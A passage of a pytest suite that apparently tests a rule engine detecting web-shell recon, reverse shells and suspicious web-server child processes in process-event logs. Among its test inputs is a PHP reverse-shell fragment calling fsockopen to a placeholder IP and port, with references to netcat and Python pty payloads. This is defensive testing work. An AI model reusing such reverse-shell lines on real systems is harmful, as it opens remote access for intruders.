        # java.exe with neither a tomcat path nor a catalina command line
        ("C:\\Java\\jre\\bin\\java.exe", "cmd.exe /c perl --help", False),
        ("C:\\Java\\tomcat-like\\bin\\javac.exe", "cmd.exe /c perl --help", False),  # \tomcat, but not java.exe
    ])
    def test_tomcat_selections(self, run: Runner, parent: str, command_line: str, hit: bool) -> None:
        """tomcat1 (java parent in a tomcat path) and tomcat2 (java parent, catalina command line) with recon."""
        assert only(run, win(parent, command_line)) == recon_tagged(hit)

    @pytest.mark.parametrize("parent", WEB_IMAGES)
    def test_web_server_without_recon(self, run: Runner, parent: str) -> None:
        """A web-server parent running something that is not a recon command is not tagged."""
        assert only(run, win(parent, "cmd.exe /c whoami /all")) == NONE

    @pytest.mark.parametrize("recon", RECON)
    def test_recon_under_explorer(self, run: Runner, recon: str) -> None:
        """A recon command under explorer.exe (no web server) is not tagged."""
        assert only(run, win("C:\\Windows\\explorer.exe", f"cmd.exe /c {recon}")) == NONE

    @pytest.mark.parametrize(("parent", "command_line", "hit"), [
        ("C:\\inetpub\\w3wp.exe.bak", "cmd.exe /c perl -h", False),  # endswith, not contains
        ("C:\\inetpub\\xw3wp.exe", "cmd.exe /c perl -h", False),  # endswith '\w3wp.exe' includes the backslash
        ("C:\\inetpub\\w3wp.exe", "cmd.exe /c PERL --HELP", True),  # contains is case-insensitive
    ])
    def test_modifier_edges(self, run: Runner, parent: str, command_line: str, hit: bool) -> None:
        """endswith covers the whole file name with its backslash; contains ignores case."""
        assert only(run, win(parent, command_line)) == recon_tagged(hit)


# ---------------------------------------------------------------------------------------------------------------
# Every event comes back, decoded, in input order; events without hits unchanged.
# ---------------------------------------------------------------------------------------------------------------


class TestPassThrough:
    def test_mixed_stream_order_and_identity(self, run: Runner) -> None:
        """A stream mixing every seed rule comes back one output per input, in order; unmatched events unchanged."""
        events = [
            proc(),
            cmdline("""php -r '$s=fsockopen("10.10.10.10",9001);'""", "php"),
            exec_of(NC, process__entity_id="e9"),
            cmdline(TESTED_PAYLOAD, "python"),
            web_shell("dash", "apache2"),
            net(process__entity_id="e9"),
            web_child(),
            win("C:\\inetpub\\w3wp.exe", "cmd.exe /c wget --help"),
            proc(process__name="cat", process__command_line="cat /etc/hostname"),
        ]
        out = run(events)
        assert [ids(d) for d in out] == [
            NONE, {PHP_FSOCKOPEN}, NONE, {PYTHON_PTY}, {SHELL_VIA_WEB_SERVER}, {SEQ}, {WEB_SERVER_CHILD},
            {WEBSHELL_RECON}, NONE,
        ]
        for src, doc in zip(events, out):
            if not ids(doc):
                assert doc == src
            else:  # enrichment adds fields; every original one is kept (event.kind becomes "alert")
                assert {k: doc[k] for k in src if k != "event"} == {k: v for k, v in src.items() if k != "event"}
                assert {k: doc["event"][k] for k in src["event"] if k != "kind"} == {
                    k: v for k, v in src["event"].items() if k != "kind"}

    def test_unmatched_lines_leave_byte_for_byte(self, shipped: Ruleset) -> None:
        """A JSON line without hits is written exactly as it came (spacing and key order kept)."""
        lines = [b'{"process":  {"name":"ls", "command_line":"ls -la"},"@timestamp":"2024-05-01T10:00:00Z"}',
                 b'{ "z": 1, "a": [1, 2, 3] }']
        out = BlockMatcher(shipped, Stats()).process(b"".join(line + b"\n" for line in lines))
        assert out.splitlines() == lines
        assert [msgspec.json.decode(x) for x in out.splitlines()] == [msgspec.json.decode(x) for x in lines]
